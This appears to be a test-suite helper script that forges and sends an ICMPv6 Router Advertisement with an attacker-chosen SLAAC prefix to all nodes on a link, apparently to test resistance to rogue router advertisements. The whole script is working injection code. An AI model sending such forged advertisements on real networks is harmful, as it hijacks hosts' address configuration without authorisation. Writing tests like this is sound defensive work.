"""
Run inside an attacker's namespace (test/atk18_dhcp4o6_link_names.test.ts): sends one ICMPv6
Router Advertisement (RFC 4861 §4.2) to ff02::1 on IFNAME from its link-local address, router
lifetime 0 (not a default router), with one Prefix Information option (§4.6.2) for PREFIX/64,
flags L and A (an on-link hosts' SLAAC prefix, RFC 4862 §5.5.3), lifetimes 3600 s. The kernel
computes the ICMPv6 checksum of a raw ICMPv6 socket (RFC 3542 §3.1).

    python3 atk18_ra.py IFNAME PREFIX
"""
import ipaddress
import socket
import struct
import sys

ifname, prefix = sys.argv[1], sys.argv[2]
index = socket.if_nametoindex(ifname)
ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 0, 0, 0)
pio = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0)
pio += ipaddress.IPv6Address(prefix).packed
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
s.sendto(ra + pio, ("ff02::1", 0, 0, index))
print("sent")
